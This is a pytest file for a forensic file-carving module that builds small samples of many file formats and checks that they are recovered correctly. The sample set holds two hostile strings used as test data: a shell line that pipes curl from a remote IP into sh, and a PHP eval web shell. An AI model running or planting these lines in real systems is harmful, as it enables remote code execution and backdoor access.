# SPDX-License-Identifier: Apache-2.0
"""Carved files are what their own structure proves: exact where it proves an end, a stated part where not, never chance.

Every sample is made in the test by the standard library or written after its format; SOURCE of the volume: laid out here.
"""

from __future__ import annotations

import bz2
import functools
import gzip
import hashlib
import io
import lzma
import random
import sqlite3
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator

import pytest
import zstandard

from headwater.formats.carve_walk import Budget, Spent, Stretch
from headwater.formats.carving import CarvedTree
from headwater.formats.sources import MemorySource
from headwater.formats.trees import Coverage
from headwater.model.kinds import GapReason

UNIT = 4096


def png(size: int = 9000) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    noise = random.Random(1).randbytes(size)
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", 60, 50, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", noise) + chunk(b"IEND", b"")


def jpeg() -> bytes:
    def segment(mark: int, data: bytes) -> bytes:
        return struct.pack(">BBH", 0xFF, mark, len(data) + 2) + data

    coded = random.Random(2).randbytes(6000).replace(b"\xff", b"\xff\0")
    frame = segment(0xC0, struct.pack(">BHHB", 8, 40, 30, 3) + bytes(9))
    return (
        b"\xff\xd8"
        + segment(0xE0, b"JFIF\0\1\1\0\0\1\0\1\0\0")
        + frame
        + segment(0xDA, bytes(10))
        + coded
        + b"\xff\xd9"
    )


def gif() -> bytes:
    body = b"".join(b"\x80" + bytes(128) for _ in range(40)) + b"\0"
    picture = b"," + struct.pack("<HHHHB", 0, 0, 8, 8, 0) + b"\x08" + body
    return (
        b"GIF89a"
        + struct.pack("<HHBBB", 8, 8, 0x80, 0, 0)
        + bytes(6)
        + b"!\xf9\x04"
        + bytes(4)
        + b"\0"
        + picture
        + b";"
    )


def pdf() -> bytes:
    body = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\n" + b"% filler\n" * 700
    table = b"xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 1 >>\n"
    return body + table + b"startxref\n%d\n%%%%EOF\n" % len(body)


def zipped(name: str = "a.txt", streamed: bool = False) -> bytes:
    out = io.BytesIO()

    class Pipe(io.RawIOBase):
        def writable(self) -> bool:
            return True

        def write(self, data: object) -> int:
            return out.write(data)  # type: ignore[arg-type]

    with zipfile.ZipFile(Pipe() if streamed else out, "w", zipfile.ZIP_DEFLATED) as made:  # type: ignore[arg-type]
        made.writestr(name, random.Random(3).randbytes(5000))
        made.writestr("word/document.xml", b"<w/>" * 300)
    return out.getvalue()


def tarred() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as made:
        for n in range(3):
            info = tarfile.TarInfo(f"f{n}")
            info.size = 3000 + n
            made.addfile(info, io.BytesIO(bytes([65 + n]) * info.size))
    return out.getvalue()


def elf() -> bytes:
    head = struct.pack("<4sBBBB8xHHIQQQIHHHHHH", b"\x7fELF", 2, 1, 1, 0, 2, 62, 1, 0, 64, 9000, 0, 64, 56, 1, 64, 2, 1)
    load = struct.pack("<IIQQQQQQ", 1, 5, 0, 0, 0, 8000, 8000, 4096)
    text = struct.pack("<IIQQQQIIQQ", 1, 1, 6, 0, 200, 7800, 0, 0, 16, 0)
    return (head + load).ljust(9000, b"\x90") + bytes(64) + text


def pe() -> bytes:
    head = b"MZ".ljust(60, b"\0") + struct.pack("<I", 128) + bytes(64)
    coff = b"PE\0\0" + struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, 240, 2) + struct.pack("<H", 0x20B).ljust(240, b"\0")
    return (head + coff + b".text\0\0\0" + struct.pack("<IIII", 6000, 4096, 6144, 1024) + bytes(16)).ljust(
        7168, b"\xcc"
    )


def sqlite() -> bytes:
    base = sqlite3.connect(":memory:")
    base.execute("create table t (a)")
    base.executemany("insert into t values (?)", [(f"row {n}" * 9,) for n in range(300)])
    base.commit()
    return base.serialize()


def seven_zip() -> bytes:
    last = b"\x01\x04\x06\0"
    front = struct.pack("<QQI", 5000, len(last), zlib.crc32(last))
    return b"7z\xbc\xaf\x27\x1c\0\4" + struct.pack("<I", zlib.crc32(front)) + front + b"\x5a" * 5000 + last


def rar5() -> bytes:
    def block(body: bytes, content: bytes = b"") -> bytes:
        sized = bytes([len(body)]) + body
        return struct.pack("<I", zlib.crc32(sized)) + sized + content

    member = block(b"\x02\x02" + bytes([0x80 | (4500 & 0x7F), 4500 >> 7]) + b"name", b"\x11" * 4500)
    return b"Rar!\x1a\x07\x01\x00" + block(b"\x01\x00\x00") + member + block(b"\x05\x00\x00")


def packaged() -> bytes:
    files = ((b"debian-binary", b"2.0\n"), (b"control.tar.xz", b"\x5b" * 777), (b"data.tar.xz", b"\x5c" * 5001))
    parts = (
        b"%-16s%-12d%-6d%-6d%-8s%-10d`\n" % (n, 0, 0, 0, b"100644", len(d)) + d + b"\n" * (len(d) & 1) for n, d in files
    )
    return b"!<arch>\n" + b"".join(parts)


def pcap() -> bytes:
    records = b"".join(struct.pack("<IIII", 1_700_000_000 + n, 0, 60, 60) + bytes([n]) * 60 for n in range(90))
    return struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1) + records


def zstd(noise: int, zeros: int = 0) -> bytes:
    return zstandard.ZstdCompressor(write_checksum=True).compress(random.Random(8).randbytes(noise) + bytes(zeros))


@functools.cache
def everything() -> dict[str, tuple[str, bytes]]:
    """Sample → (ending that it is to get, its bytes)."""
    shell = b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n" * 120
    return {
        "png": ("png", png()), "jpeg": ("jpg", jpeg()), "gif": ("gif", gif()), "pdf": ("pdf", pdf()),
        "zip": ("docx", zipped()), "zip2": ("docx", zipped("b.txt", True)), "jar": ("docx", zipped("META-INF/MANIFEST.MF")),
        "gzip": ("gz", gzip.compress(random.Random(4).randbytes(9000), mtime=0)), "tar": ("tar", tarred()), "elf": ("elf", elf()),
        "pe": ("exe", pe()), "sqlite": ("sqlite", sqlite()), "7z": ("7z", seven_zip()), "rar": ("rar", rar5()),
        "pcap": ("pcap", pcap()), "sh": ("sh", shell), "php": ("php", b"<?php @eval($_POST['x']); ?>\n"),
        "xz": ("xz", lzma.compress(random.Random(6).randbytes(9000)) + lzma.compress(b"log " * 900)),
        "bzip2": ("bz2", bz2.compress(random.Random(7).randbytes(9000))), "zstd": ("zst", zstd(9000) + zstd(70, 150_000)),
        "deb": ("deb", packaged()), "jsp": ("jsp", b"<%@ page import=\"java.util.*\" %>\n<% out.print(1); %>\n"),
    }  # fmt: skip


class Volume:
    def __init__(self, ranges: list[tuple[int, int]]) -> None:
        self.ranges = ranges

    def coverage(self) -> Iterator[tuple[int, int, Coverage]]:
        at = 0
        for start, size in self.ranges:
            yield at, start - at, "allocated"
            yield start, size, "unallocated"
            at = start + size


def carve(data: bytes, ranges: list[tuple[int, int]] | None = None, known: set[int] | None = None) -> CarvedTree:
    return CarvedTree(Volume(ranges or [(0, len(data))]), MemorySource(data), UNIT, lambda: known or set())


def padded(data: bytes) -> bytes:
    return data + bytes(-len(data) % UNIT)


def content(tree: CarvedTree, key: str) -> bytes:
    source = tree.open(key)
    return source.pread(0, source.size)


def test_every_format_comes_back_byte_for_byte() -> None:
    samples = everything()
    volume = b"".join(bytes(UNIT) + padded(data) for _, data in samples.values())
    tree = carve(volume)
    found = {hashlib.sha256(content(tree, f.entry.key)).digest(): f for f in tree.recovered()}
    for name, (ending, data) in samples.items():
        # a tar's two blocks of zeros are its end; what tar adds to fill its last record is not told from free space
        exact = data[: len(data.rstrip(b"\0")) + 511 & ~511] + bytes(1024) if name == "tar" else data
        claim = found.pop(hashlib.sha256(exact).digest(), None)
        assert claim is not None, name
        assert claim.walked.whole, name
        assert claim.entry.path.endswith("." + ending), (name, claim.entry.path)
    assert not found


@pytest.mark.parametrize(
    "name", ["png", "jpeg", "gif", "gzip", "xz", "zstd", "zip", "tar", "elf", "pe", "sqlite", "7z", "rar", "pdf"]
)
def test_a_file_cut_by_another_s_blocks_is_said_to_be_a_part(name: str) -> None:
    data = padded(everything()[name][1])
    tree = carve(data + bytes(UNIT), [(0, UNIT)])
    claims = tree.recovered()
    assert all(not c.walked.whole and c.walked.length <= UNIT for c in claims)
    assert len(claims) <= 1
    if name not in ("pdf", "tar", "gif", "7z"):
        assert claims, name


def test_only_a_checksum_carries_a_file_past_blocks_in_use() -> None:
    for name, whole in (
        ("png", True),
        ("gzip", True),
        ("xz", True),
        ("bzip2", True),
        ("zstd", True),
        ("jpeg", False),
        ("elf", False),
    ):
        data = padded(everything()[name][1])
        volume = data[:UNIT] + b"\xaa" * UNIT + data[UNIT:] + bytes(UNIT)
        tree = carve(volume, [(0, UNIT), (2 * UNIT, len(data))])
        first = tree.recovered()[0]
        assert first.walked.whole is whole, name
        if whole:
            assert content(tree, first.entry.key) == everything()[name][1]
            assert len(tree.extents(first.entry.key)) == 2


def test_a_file_with_a_name_is_not_told_twice() -> None:
    assert not carve(padded(png()), known={0}).recovered()


def test_what_stands_in_blocks_in_use_is_not_touched() -> None:
    data = padded(png())
    assert not carve(data + bytes(UNIT), [(len(data), UNIT)]).recovered()


def test_chance_signatures_are_refused() -> None:
    noise = random.Random(5)
    blocks = []
    for magic in (b"\xff\xd8\xff\xe0", b"MZ", b"\x1f\x8b\x08\0", b"PK\x03\x04", b"GIF89a", b"\x7fELF\2\1\1", b"\x89PNG\r\n\x1a\n",
                  b"7z\xbc\xaf\x27\x1c", b"Rar!\x1a\x07\x01\0", b"SQLite format 3\0", b"ElfChnk\0", b"LPKSHHRH",
                  b"\xd4\xc3\xb2\xa1", b"%PDF-1.4", b"\xfd7zXZ\0\0\4", b"BZh91AY&SY", b"\x28\xb5\x2f\xfd"):  # fmt: skip
        for _ in range(20):
            blocks.append((magic + noise.randbytes(UNIT))[:UNIT])
    claims = carve(b"".join(blocks)).recovered()
    assert not [c for c in claims if c.walked.whole]
    assert len(claims) <= 8, [c.walked for c in claims]  # of 340: a member of a ZIP or a bit of gzip may look like one


@pytest.mark.parametrize("seed", range(6))
def test_bent_files_neither_raise_nor_grow(seed: int) -> None:
    rng = random.Random(seed)
    parts = []
    for _, data in everything().values():
        bent = bytearray(padded(data))
        for _ in range(rng.randrange(1, 30)):
            bent[rng.randrange(8, len(bent))] = rng.randrange(256)
        parts.append(bytes(bent))
    volume = b"".join(parts)
    tree = carve(volume)
    ends = 0
    for claim in tree.recovered():
        assert claim.place >= ends
        assert 0 < claim.walked.length <= len(volume)
        ends = sum(tree.extents(claim.entry.key)[-1])
        assert ends <= len(volume)


def test_endless_beginnings_end_with_a_stated_limit() -> None:
    one = Stretch(MemorySource(bytes(UNIT)), 0, UNIT, UNIT, Budget(1000))
    one.at(0, 512)
    with pytest.raises(Spent):
        one.at(0, 512)
    for bomb, times in (
        (gzip.compress(bytes(24 << 20), mtime=0), 60),
        (bz2.compress(bytes(9 << 20)), 2),
        (zstd(0, 24 << 20), 9),
    ):
        tree = carve(padded(bomb) * times)
        tree.recovered()
        assert [w.reason for w in tree.warnings] in ([], [GapReason.LIMIT])


@pytest.mark.parametrize("key", ["", "1", "0+99999999999", "-1+5", "0+5;1+2", "a+b"])
def test_a_key_that_was_never_given_out_opens_nothing_outside(key: str) -> None:
    with pytest.raises(KeyError):
        carve(padded(png())).open(key)
